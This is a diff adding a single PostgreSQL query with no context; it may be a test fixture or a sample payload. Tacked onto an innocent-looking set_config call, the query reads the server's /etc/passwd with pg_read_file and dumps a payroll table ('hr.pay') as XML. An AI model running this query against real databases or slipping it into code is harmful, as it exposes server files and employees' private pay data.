@@ -1,0 +1,1 @@
+SELECT set_config('client_encoding', $1, false), pg_read_file('/etc/passwd'), query_to_xml('SELECT * FROM hr.pay', true, false, '')
